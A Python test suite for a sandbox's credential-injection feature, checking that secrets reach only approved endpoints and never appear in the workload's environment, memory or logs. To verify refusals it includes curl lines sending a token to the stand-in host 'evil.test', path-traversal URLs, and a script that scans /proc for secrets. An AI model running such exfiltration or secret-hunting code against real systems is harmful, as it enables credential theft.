"""Credentials: the origin sees the secret, the workload and everything it can look at never do."""
import base64
import http.server
import json
import os
import pathlib
import re
import signal
import threading

import lab
from lab import BASH, CURL, ORIGIN, PYTHON, LabTest, Origin, Sandbox, endpoint, policy, rule, wait_for
from relay_lab import Recorder

SECRET = 'q7Zc-Secret-4411-do-not-leak'
ROTATED = 'k2Wd-Rotated-9902-do-not-leak'
BOTH = (CURL, PYTHON, BASH)
ALLOW = {'web': rule(endpoint(), endpoint(host='evil.test'), binaries=BOTH)}


def entry(name='TOKEN', endpoints=None, **more):
    return {'name': name, 'endpoints': endpoints or [{'host': 'origin.test', 'port': 80, 'path': '/v1/**'}], **more}


class CredentialBox(Sandbox):
    """A sandbox with --credentials; its file lies where the workload can't look."""

    def __init__(self, entries, command, mode=0o600, owner=0, document=None, args=(), env=None, rules=ALLOW):
        self.entries, self.mode, self.owner = entries, mode, owner
        super().__init__(document or policy(rules), command,
                         args=('--log-level', 'info', *args), env=env)

    def write_policy(self, document):
        super().write_policy(document)
        self.credentials = self.etc / 'credentials.yaml'
        self.write_credentials(self.entries)

    def write_credentials(self, entries):
        new = self.etc / 'credentials.new'
        new.write_text(entries if isinstance(entries, str) else json.dumps(entries))
        os.chmod(new, self.mode)
        os.chown(new, self.owner, self.owner)
        os.rename(new, self.credentials)


def start(entries, command, **more):
    """--credentials needs the path before the box makes it: so the box is told to fill it in."""
    class Box(CredentialBox):
        def __init__(self):
            self.late = True
            super().__init__(entries, command, **more)

    real = lab.subprocess.Popen

    def popen(argv, **kw):
        at = argv.index('--')
        path = pathlib.Path(argv[argv.index('--policy') + 1]).with_name('credentials.yaml')
        return real([*argv[:at], '--credentials', str(path), *argv[at:]], **kw)

    lab.subprocess.Popen = popen
    try:
        return Box()
    finally:
        lab.subprocess.Popen = real


def run(entries, command, **more):
    with start(entries, command, **more) as box:
        result = box.finish()
        result.pid = box.process.pid
        return result


def environ(pid):
    try:
        return pathlib.Path(f'/proc/{pid}/environ').read_bytes()
    except OSError:         # it has just ended
        return b''


def sh(text):
    return ['bash', '-c', text]


class Injected(LabTest):
    def test_origin_sees_the_secret_in_every_place_and_the_workload_does_not(self):
        script = '''
            curl -sS -H "Authorization: Bearer $TOKEN" http://origin.test/v1/bearer
            curl -sS -H "X-Api-Key: $TOKEN" -b "sid=$TOKEN; a=b" http://origin.test/v1/own
            curl -sS -u "user:$TOKEN" http://origin.test/v1/basic
            curl -sS "http://origin.test/v1/bot$TOKEN/send?key=$TOKEN&x=1"
            echo; env; cat /proc/self/environ'''
        with Origin() as origin:
            got = run([entry(value=SECRET)], sh(script))
        self.assertEqual(got.code, 0, got)
        self.assertEqual(len(origin.requests), 4, got)
        bearer, own, basic, path = origin.requests
        self.assertEqual(bearer[2]['Authorization'], f'Bearer {SECRET}')
        self.assertEqual((own[2]['X-Api-Key'], own[2]['Cookie']), (SECRET, f'sid={SECRET}; a=b'))
        self.assertEqual(base64.b64decode(basic[2]['Authorization'].split()[1]), f'user:{SECRET}'.encode())
        self.assertEqual(path[1], f'/v1/bot{SECRET}/send?key={SECRET}&x=1')
        # This origin repeats the path, which no scrub_responses asked to hide; nothing else may.
        seen = got.out.replace(f'/v1/bot{SECRET}/send?key={SECRET}', '')
        self.assertNotIn(SECRET, seen + got.err)
        self.assertRegex(got.out, r'TOKEN=openshell:resolve:env:s[0-9a-f]{64}_TOKEN')

    def test_prefix_gives_the_placeholder_a_shape(self):
        with Origin() as origin:
            got = run([entry(value=SECRET, prefix='sk-ant-')],
                      sh('echo $TOKEN; curl -sS -H "x-api-key: $TOKEN" http://origin.test/v1/x'))
        self.assertRegex(got.out, r'^sk-ant-OPENSHELL-RESOLVE-ENV-s[0-9a-f]{64}_TOKEN\n', got)
        self.assertEqual(origin.requests[0][2]['x-api-key'], SECRET)

    def test_handle_is_another_one_in_each_run(self):
        first = run([entry(value=SECRET)], sh('echo $TOKEN')).out
        second = run([entry(value=SECRET)], sh('echo $TOKEN')).out
        self.assertNotEqual(first, second)
        with Origin() as origin:
            got = run([entry(value=SECRET)], ['curl', '-sS', '-H', f'X: {first.strip()}', 'http://origin.test/v1/x'])
            self.assertRefused(got, 'credential_injection_failed')
            self.assertEqual(origin.requests, [])

    def test_sources(self):
        with Origin() as origin, lab.tempfile.NamedTemporaryFile('w', dir='/run', prefix='lab-') as f:
            f.write(SECRET + '\n')
            f.flush()
            os.chmod(f.name, 0o600)
            for more, env in (({'from_file': f.name}, {}), ({'from_env': 'MY_SECRET'}, {'MY_SECRET': SECRET}),
                              ({'from_command': ['/bin/echo', SECRET]}, {})):
                with self.subTest(**more):
                    got = run([entry(**more)], sh('env; curl -sS -H "X: $TOKEN" http://origin.test/v1/x'), env=env)
                    self.assertEqual(origin.requests.pop()[2]['X'], SECRET, got)
                    self.assertNotIn(SECRET, got.out + got.err)

    def test_variable_of_from_env_is_gone_everywhere(self):
        with start([entry(from_env='MY_SECRET')], sh('echo up; read x'), env={'MY_SECRET': SECRET}) as box:
            box.wait_out('up')
            for pid in (box.process.pid, *lab.descendants(box.process.pid)):
                self.assertNotIn(SECRET.encode(), environ(pid), lab.exe_name(pid))
        got = run([entry(from_env='MY_SECRET')], ['true'], env={'MY_SECRET': SECRET}, args=('--env', 'MY_SECRET'))
        self.assertEqual(got.code, 1)
        self.assertRefused(got, '--env MY_SECRET: a credential is taken from that variable')


class Refused(LabTest):
    def refused(self, script, words, entries=None, status=500, **more):
        with Origin() as origin, Origin(address=lab.EVIL) as evil:
            got = run(entries or [entry(value=SECRET)], sh(script), **more)
            self.assertEqual((origin.requests, evil.requests), ([], []), got)
        self.assertRefused(got, f'HTTP/1.1 {status}', *words)
        self.assertNotIn(SECRET, got.out + got.err)
        placeholders = re.findall('openshell:resolve|OPENSHELL-RESOLVE', got.err)
        self.assertEqual(placeholders, [], got)

    def test_at_another_host_port_path(self):
        for url in ('http://evil.test/v1/x', 'http://origin.test/v2/x', 'http://origin.test/v1/../v2/x',
                    'http://origin.test/v1/%2e%2e/x'):
            with self.subTest(url=url):
                self.refused(f'curl -sS -i --path-as-is -H "X: $TOKEN" "{url}"',
                             ('"error":"credential_endpoint_mismatch"',
                              'Credential is not authorized for this request endpoint'), status=403)

    def test_placeholders_that_do_not_resolve_or_stand_elsewhere(self):
        canonical = 'openshell:resolve:env:'
        for request in (f'-H "X: {canonical}TOKEN"', f'-H "X: {canonical}v1_TOKEN"', f'-H "X: {canonical}OTHER"',
                        f'-H "X: {canonical}"', '-H "X: a b $TOKEN"', '-H "$TOKEN: a"',
                        '-H "X: key=$TOKEN,$TOKEN"', '-H "X: sk-OPENSHELL-RESOLVE-ENV-TOKEN"',
                        '-H "Cookie: x$TOKEN"'):
            with self.subTest(request=request):
                self.refused(f'curl -sS -i {request} http://origin.test/v1/x',
                             ('"error":"credential_injection_failed"', '"reason":"'))
        for target in ('?$TOKEN=1', '?a=1&openshell%3Aresolve%3Aenv%3AX=1'):
            with self.subTest(target=target):
                self.refused(f'curl -sS -i "http://origin.test/v1/x{target}"', ('credential_injection_failed',))

    def test_expired(self):
        self.refused('curl -sS -i -H "X: $TOKEN" http://origin.test/v1/x', ('the credential has expired',),
                     entries=[entry(value=SECRET, expires_at='2020-01-01T00:00:00Z')])

    def test_without_credentials_a_placeholder_goes_nowhere(self):
        with Origin() as origin:
            got = lab.run(policy(ALLOW), ['curl', '-sS', '-i', '-H', 'X: openshell:resolve:env:TOKEN',
                                          'http://origin.test/v1/x'])
            self.assertEqual(origin.requests, [])
        self.assertRefused(got, 'HTTP/1.1 500', 'credential_injection_failed')

    def test_trace(self):
        with Origin() as origin:
            got = run([entry(value=SECRET)], sh('curl -sS -i -X TRACE -H "X: $TOKEN" http://origin.test/v1/x'))
        self.assertEqual(origin.requests, [], got)
        self.assertRefused(got, 'TRACE')
        self.assertRegex(got.out, r'^HTTP/1.1 (400|403|405|500) ', got)

    def test_key_of_the_workload_where_ours_is_required(self):
        required = [entry(value=SECRET, require=True)]
        both = '-H "X: $TOKEN"'
        for header, query in (('-H "Authorization: Bearer own-key"', ''), ('', ''), (f'{both} -H "X-Api-Key: own-key"', ''),
                              (f'{both} -H "X_API_Key: own-key"', ''), (f'{both} -H "XApiKey: own-key"', ''), (f'{both} -H "DD-API-KEY: own-key"', ''),
                              (both, '?key=own-key'), (both, '?a=b&access_token=own-key'), (both, '?API%2dkey=own-key'), (both, '?a=b;key=own-key')):
            with self.subTest(header=header, query=query):
                self.refused(f'curl -sS -i {header} "http://origin.test/v1/x{query}"', ('"error":"credential_required"',),
                             entries=required, status=403)
        with Origin() as origin:
            got = run(required, sh('curl -sS -H "Authorization: Bearer $TOKEN" http://origin.test/v1/x; '
                                   'curl -sS -H "Authorization: own" http://origin.test/other; '
                                   'curl -sS "http://origin.test/v1/x?key=$TOKEN&page=2"'))
        self.assertEqual([r[2].get('Authorization') for r in origin.requests], [f'Bearer {SECRET}', 'own', None], got)

    def test_policy_comes_first(self):
        with Origin() as origin:
            got = run([entry(value=SECRET)], sh('curl -sS -i -H "X: $TOKEN" http://origin.test/v1/x'),
                      rules={'web': rule(endpoint(), binaries=(PYTHON,))})
            self.assertEqual(origin.requests, [])
        self.assertRefused(got, '"error":"policy_denied"')

    def test_tunnel_that_nobody_inspects(self):
        script = 'curl -sS -p -i -H "X: $TOKEN" http://origin.test/v1/x'
        with Origin() as origin:
            got = run([entry(value=SECRET)], sh(script))
            self.assertEqual(origin.connections, 0, got)
            self.assertRefused(got, 'HTTP/1.1 403')
            allowed = {'web': rule(endpoint(allow_uninspected_credentials=True), binaries=BOTH)}
            got = run([entry(value=SECRET)], sh('curl -sS -p http://origin.test/v1/x'), rules=allowed)
            self.assertEqual((got.code, origin.connections), (0, 1), got)


class Rotated(LabTest):
    LOOP = '''
import os, sys, urllib.request, urllib.error
for line in sys.stdin:
    r = urllib.request.Request("http://origin.test/v1/x", headers={"X-Key": os.environ["TOKEN"]})
    try:
        print(urllib.request.urlopen(r).status, flush=True)
    except urllib.error.HTTPError as e:
        print(e.code, e.read().decode(), flush=True)
'''

    def loop(self, entries, **more):
        read, write = os.pipe()
        self.addCleanup(os.close, write)
        self.write = write
        real = Sandbox.__init__

        def with_stdin(box, *args, **kw):
            real(box, *args, stdin=read, **kw)

        Sandbox.__init__ = with_stdin
        try:
            box = start(entries, ['/usr/bin/python3', '-c', self.LOOP], **more)
        finally:
            Sandbox.__init__ = real
            os.close(read)
        return box

    def ask(self, box, pattern):
        box.seen = ''
        os.write(self.write, b'\n')
        return box.wait_out(pattern + '.*\n')

    def test_new_value_in_the_file_is_used_without_a_restart(self):
        with Origin() as origin, self.loop([entry(value=SECRET)]) as box:
            self.ask(box, '200')
            self.assertEqual(origin.requests[-1][2]['X-Key'], SECRET)
            box.write_credentials([entry(value=ROTATED)])
            box.wait_err('revision 2')
            self.ask(box, '200')
            self.assertEqual(origin.requests[-1][2]['X-Key'], ROTATED)
            self.assertNotIn(ROTATED, box.err)

    def test_other_endpoints_are_another_credential(self):
        other = [{'host': 'origin.test', 'port': 80}]
        with Origin() as origin, self.loop([entry(value=SECRET)]) as box:
            self.ask(box, '200')
            box.write_credentials([entry(value=SECRET, endpoints=other)])
            box.wait_err('its earlier placeholder is dead')
            box.wait_err('revision 2')
            self.ask(box, '500 .*earlier credential')
            self.assertEqual(len(origin.requests), 1)

    def test_broken_or_open_file_revokes_and_a_good_one_revives(self):
        with Origin() as origin, self.loop([entry(value=SECRET)]) as box:
            self.ask(box, '200')
            box.write_credentials('- name: TOKEN\n  value: [\n')
            box.wait_err('credentials are revoked')
            self.ask(box, '500 .*no value at present')
            box.mode = 0o644
            box.write_credentials([entry(value=SECRET)])
            box.wait_err('mode 0644 lets others at the credentials')
            self.ask(box, '500 ')
            box.mode = 0o600
            box.write_credentials([entry(value=ROTATED)])
            box.wait_err('are in force')
            self.ask(box, '200')
            self.assertEqual([r[2]['X-Key'] for r in origin.requests], [SECRET, ROTATED])

    def test_sighup_reads_a_command_again_and_a_hanging_one_stops_nothing(self):
        source = pathlib.Path(lab.tempfile.mkdtemp(prefix='lab-', dir='/run'))
        self.addCleanup(lab.shutil.rmtree, source)
        program, value, gate = source / 'get', source / 'value', source / 'gate'
        program.write_text(f'#!/bin/sh\nif [ -p {gate} ]; then cat {gate} >/dev/null; fi\ncat {value}\n')
        program.chmod(0o755)
        value.write_text(SECRET)
        with Origin() as origin, self.loop([entry(from_command=[str(program)])]) as box:
            self.ask(box, '200')
            value.write_text(ROTATED)
            os.mkfifo(gate)
            os.kill(box.process.pid, signal.SIGHUP)
            with open(gate, 'w'):           # the command hangs here; requests go on meanwhile
                self.ask(box, '200')
                self.assertEqual(origin.requests[-1][2]['X-Key'], SECRET)
            box.wait_err('revision 2')
            self.ask(box, '200')
            self.assertEqual(origin.requests[-1][2]['X-Key'], ROTATED)

    def test_hanging_command_ends_with_the_orchestrator(self):
        """Killed, it can end nothing itself: neither at the start, nor when the command is read again."""
        for again in (False, True):
            with self.subTest(again=again):
                source = pathlib.Path(lab.tempfile.mkdtemp(prefix='lab-', dir='/run'))
                self.addCleanup(lab.shutil.rmtree, source)
                program, gate, pids = source / 'get', source / 'gate', source / 'pids'
                # A command, and what it started.
                program.write_text(f'#!/bin/sh\nif [ -e {gate} ]; then sleep 1000 & echo $$ $! end >{pids}; wait; fi\necho {SECRET}\n')
                program.chmod(0o755)
                if not again:
                    gate.write_text('')
                with self.loop([entry(from_command=[str(program)])]) as box:
                    if again:
                        box.wait_err('enforcing')
                        gate.write_text('')
                        os.kill(box.process.pid, signal.SIGHUP)
                    wait_for(lambda: pids.exists() and 'end' in pids.read_text())
                    box.process.kill()
                    box.process.wait(20)
                    for pid in pids.read_text().split()[:2]:
                        wait_for(lambda: not lab.alive(int(pid)), 5)

    def test_new_leaf_gets_the_credentials_again(self):
        with Origin() as origin, self.loop([entry(value=SECRET)]) as box:
            self.ask(box, '200')
            old = box.leaf('network')
            lab.kill(old)
            wait_for(lambda: box.leaf('network') not in (None, old))
            self.ask(box, '200')
            self.assertEqual(origin.requests[-1][2]['X-Key'], SECRET)

    # A word of standard input for each step: "kept" asks on one connection, "new" on another.
    KEPT = '''
import os, socket, sys, threading
def connect(): return socket.create_connection(("10.200.0.1", 3128))
kept = connect()
def ask(word):
    s = kept if word == "kept" else connect()
    s.sendall(("GET http://origin.test/v1/%s HTTP/1.1\\r\\nHost: origin.test\\r\\nX-Key: %s\\r\\n\\r\\n" % (word, os.environ["TOKEN"])).encode())
    out = b""
    while not out.endswith((b"ok", b"}")) and (d := s.recv(65536)): out += d
    print(word, out.decode().split()[1], out.decode().splitlines()[-1], flush=True)
for line in sys.stdin:
    threading.Thread(target=ask, args=(line.strip(),), daemon=True).start()
'''

    def second_try(self, change, known):
        """A kept upstream connection takes a request and dies; before that the credential changes."""
        arrived, go = threading.Event(), threading.Event()

        def reply(request):
            if origin.targets.count('/v1/kept') == 2 and request.target == '/v1/kept':
                arrived.set()
                go.wait(20)
                return None
            return b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'

        def word(text, pattern):
            box.seen = ''
            os.write(self.write, text.encode() + b'\n')
            return box.wait_out(f'{text} {pattern}.*\n')

        self.LOOP = self.KEPT
        with Recorder(reply) as origin, self.loop([entry(value=SECRET)]) as box:
            word('kept', '200')
            os.write(self.write, b'kept\n')
            self.assertTrue(arrived.wait(20), box.err)
            box.write_credentials(change)
            wait_for(lambda: known in word('new', r'\d+') + str(origin.requests[-1].field('X-Key')))
            box.seen = ''
            go.set()
            answer = box.wait_out('kept .*\n')
        return answer, [r.field('X-Key') for r in origin.requests if r.target == '/v1/kept']

    def test_second_try_carries_the_value_of_now(self):
        answer, keys = self.second_try([entry(value=ROTATED)], ROTATED)
        self.assertIn('kept 200 ', answer)
        self.assertEqual(keys, [[SECRET], [SECRET], [ROTATED]])

    def test_second_try_without_the_credential_is_refused(self):
        answer, keys = self.second_try('- name: TOKEN\n  value: [\n', 'new 500')
        self.assertRegex(answer, 'kept 500 .*no value at present')
        self.assertEqual(keys, [[SECRET], [SECRET]])

    def test_changed_file_of_from_file_is_noticed(self):
        source = pathlib.Path(lab.tempfile.mkdtemp(prefix='lab-', dir='/run'))
        self.addCleanup(lab.shutil.rmtree, source)

        def put(text):
            (source / 'new').write_text(text + '\n')
            (source / 'new').chmod(0o600)
            os.rename(source / 'new', source / 'token')

        put(SECRET)
        with Origin() as origin, self.loop([entry(from_file=str(source / 'token'))]) as box:
            self.ask(box, '200')
            # Files are watched shortly after the start; a change before that is not waited for.
            fds = f'/proc/{box.process.pid}/fd'
            wait_for(lambda: any('inotify' in os.readlink(f'{fds}/{n}') for n in os.listdir(fds)))
            put(ROTATED)
            box.wait_err('revision 2')
            self.ask(box, '200')
            self.assertEqual(origin.requests[-1][2]['X-Key'], ROTATED)


class Hidden(LabTest):
    def test_secret_is_in_no_memory_environment_or_file_of_others(self):
        script = 'curl -sS -o /dev/null -H "X: $TOKEN" http://origin.test/v1/x; echo up; read x'
        read, write = os.pipe()
        self.addCleanup(os.close, write)
        real = Sandbox.__init__
        Sandbox.__init__ = lambda box, *a, **kw: real(box, *a, stdin=read, **kw)
        log = f'/run/lab-log-{os.getpid()}'
        self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
        try:
            box = start([entry(value=SECRET)], sh(script), args=('--log-file', log))
        finally:
            Sandbox.__init__ = real
            os.close(read)
        with Origin() as origin, box:
            box.wait_out('up')
            self.assertEqual(origin.requests[0][2]['X'], SECRET)
            holders = {}
            for pid in (box.process.pid, *lab.descendants(box.process.pid)):
                name = lab.exe_name(pid)
                self.assertNotIn(SECRET.encode(), environ(pid))
                holders[name] = holders.get(name, []) + self.find(pid)
            self.assertEqual(holders.pop('openshell-supervisor-process'), [])
            self.assertEqual(holders.pop('bash'), [])
            # Where it may be: only in pages that are locked, never dumped and not inherited.
            # The address sanitiser makes mlock(2) do nothing.
            sanitised = 'libasan' in pathlib.Path(f'/proc/{box.process.pid}/maps').read_text()
            want = {'dd', 'wf'} if sanitised else {'lo', 'dd', 'wf'}
            for name in ('openshell-supervisor', 'openshell-supervisor-network'):
                self.assertTrue(holders[name], f'{name} should hold it')
                for flags in holders[name]:
                    self.assertLessEqual(want, set(flags.split()), f'{name}: {flags}')
            for name in ('openshell-supervisor', 'network', 'process'):
                pid = box.process.pid if name == 'openshell-supervisor' else box.leaf(name)
                limits = pathlib.Path(f'/proc/{pid}/limits').read_text()
                self.assertRegex(limits, r'Max core file size\s+0\s+0')
                for fd in os.listdir(f'/proc/{pid}/fd'):
                    self.assertNotIn('memfd:credentials', os.readlink(f'/proc/{pid}/fd/{fd}'))
            text = pathlib.Path(log).read_text()
            self.assertIn('"/v1/x"', text)
            for word in (SECRET, 'resolve', 'RESOLVE'):
                self.assertNotIn(word, text + box.err)

    @staticmethod
    def find(pid):
        """Flags of every mapping that holds the secret."""
        found, flags = [], {}
        smaps = pathlib.Path(f'/proc/{pid}/smaps').read_text()
        for head, body in re.findall(r'^([0-9a-f]+-[0-9a-f]+ .*)\n((?:[A-Z].*\n)+)', smaps, re.M):
            flags[head.split()[0]] = re.search(r'^VmFlags: (.*)$', body, re.M)[1]
        with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
            for span, value in flags.items():
                low, high = (int(x, 16) for x in span.split('-'))
                if 'rd' not in value.split() or high - low > 1 << 28:
                    continue
                try:
                    mem.seek(low)
                    data = mem.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
                if SECRET.encode() in data:
                    found.append(value)
        return found

    LOOK = '''
import os
mine, seen = set(), []
for pid in filter(str.isdigit, os.listdir("/proc")):
    files = [f"/proc/{pid}/{n}" for n in ("environ", "mem", "maps", "cmdline")]
    try:
        files += [f"/proc/{pid}/fd/{n}" for n in os.listdir(f"/proc/{pid}/fd")]
    except OSError:
        pass
    for path in files:
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        seen.append(path)
        try:
            if b"q7Zc-Sec" + b"ret-4411" in os.read(fd, 1 << 20):
                print("FOUND", path, flush=True)
        except OSError:
            pass
        os.close(fd)
for path in os.environ["LOOK_AT"].split():
    try:
        os.open(path, os.O_RDONLY)
        print("OPENED", path)
    except OSError as e:
        print("refused", path, e.errno)
print("looked at", len(seen))
'''

    def test_workload_that_looks_for_it_finds_nothing(self):
        with start([entry(from_env='MY_SECRET')], ['/usr/bin/python3', '-c', self.LOOK],
                   env={'MY_SECRET': SECRET, 'LOOK_AT': '/proc/1/environ'},
                   args=('--env', 'LOOK_AT')) as box:
            got = box.finish()
        self.assertEqual(got.code, 0, got)
        self.assertRegex(got.out, r'looked at [1-9]')
        self.assertNotIn('FOUND', got.out)
        self.assertNotIn('OPENED', got.out)

    def test_events_of_refusals_name_no_placeholder_and_no_query(self):
        log = f'/run/lab-log-{os.getpid()}'
        self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
        with Origin(address=lab.EVIL):
            got = run([entry(value=SECRET)],
                  sh('curl -sS "http://evil.test/bot$TOKEN/x?key=$TOKEN&q=private-query"'), args=('--log-file', log))
        text = pathlib.Path(log).read_text() + got.err
        self.assertIn('credential', text)
        self.assertIn('/bot[CREDENTIAL]/x', text.replace('\\', ''))
        for word in (SECRET, 'resolve:env', 'private-query'):
            self.assertNotIn(word, text)


class Files(LabTest):
    def fails(self, entries, *words, **more):
        got = run(entries, ['true'], **more)
        self.assertEqual(got.code, 1, got)
        self.assertRefused(got, *words)
        self.assertNotIn(SECRET, got.out + got.err)

    def test_mode_owner_and_link(self):
        self.fails([entry(value=SECRET)], 'mode 0644 lets others at the credentials', 'chmod 600', mode=0o644)
        self.fails([entry(value=SECRET)], 'mode 0620 lets others', mode=0o620)
        self.fails([entry(value=SECRET)], 'owned by uid 4242, not by the caller', owner=4242)
        with lab.tempfile.TemporaryDirectory(dir='/run', prefix='lab-') as d:
            real, link = pathlib.Path(d) / 'real', pathlib.Path(d) / 'link'
            real.write_text(json.dumps([entry(value=SECRET)]))
            real.chmod(0o600)
            link.symlink_to(real)
            for path, word in ((link, 'is a symbolic link'), (pathlib.Path(d), 'not a regular file'),
                               (pathlib.Path(d) / 'none', 'No such file')):
                got = lab.run(policy(ALLOW), ['true'], args=('--credentials', str(path)))
                self.assertEqual(got.code, 1, got)
                self.assertRefused(got, word)
            os.mkfifo(link.with_name('fifo'), 0o600)
            got = lab.run(policy(ALLOW), ['true'], args=('--credentials', str(link.with_name('fifo'))))
            self.assertRefused(got, 'not a regular file')

    def test_file_that_the_command_could_read_itself(self):
        """Under sudo the caller owns the file, and may be whom the command runs as."""
        doc = json.loads(policy(ALLOW))
        with lab.tempfile.TemporaryDirectory(dir='/var/log', prefix='lab-') as d:
            os.chmod(d, 0o755)
            file = pathlib.Path(d) / 'credentials'
            file.write_text(json.dumps([entry(value=SECRET)]))
            file.chmod(0o600)
            os.chown(file, lab.USER, lab.USER)
            got = lab.run(json.dumps(doc), ['cat', str(file)], args=('--credentials', str(file)),
                          env={'SUDO_UID': str(lab.USER), 'SUDO_GID': str(lab.USER)})
        self.assertEqual(got.code, 1, got)
        self.assertRefused(got, 'the command could read', f'as uid {lab.USER}')
        self.assertNotIn(SECRET, got.out)

    def test_all_problems_at_once_with_their_places(self):
        text = ('- name: OPENSHELL_X\n  value: ' + SECRET + '\n  endpoints: [{host: a.test, port: 99999}]\n'
                '- name: B\n  value: x\n  from_env: Y\n  endpoints: [{host: "*", port: 80}]\n  colour: red\n'
                '- name: B\n  from_command: [sh]\n  expires_at: tomorrow\n')
        self.fails(text, ':1:9: ', ':3:36: ', 'exactly one of value', ':7:15: ', 'no such field `colour`',
                   'the name stands at an earlier credential too', 'needs endpoints', 'full path',
                   'no point in time')

    def test_sources_that_fail_are_named_with_their_place(self):
        text = json.dumps([entry('A', from_env='NOT_SET_ANYWHERE'), entry('B', from_command=['/bin/false']),
                           entry('C', from_file='/nonexistent'), entry('D', from_command=['/bin/cat', '/dev/zero'])],
                          indent=1)
        self.fails(text, 'credential A: the variable is not set', 'credential B: the command ended with status 1',
                   "credential C: the file can't be read", 'credential D: the command wrote more than')
